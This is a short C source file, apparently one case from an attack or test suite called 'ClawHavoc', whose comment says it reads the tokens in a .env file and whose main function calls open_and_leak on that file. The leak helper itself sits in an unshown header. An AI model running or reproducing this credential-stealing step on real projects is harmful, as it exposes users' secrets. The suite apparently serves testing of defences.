/* SPDX-License-Identifier: Apache-2.0 */
/* ClawHavoc: reads the tokens in a .env beside the files that it may read. */
#define ATTACK "project-secrets"
#include "attack.h"

int main(int count, char **argument)
{
	(void)count;
	open_and_leak(text("%s/.env", argument[1]));
}
